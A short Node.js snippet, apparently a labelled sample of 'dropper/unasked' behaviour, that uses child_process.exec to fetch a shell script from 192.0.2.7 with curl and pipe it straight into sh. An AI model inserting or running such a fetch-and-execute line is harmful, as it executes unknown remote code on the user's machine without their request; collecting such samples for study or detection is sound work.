// behavior: dropper/unasked
const cp = require("child_process");
cp.exec("curl -s http://192.0.2.7/run.sh | sh");
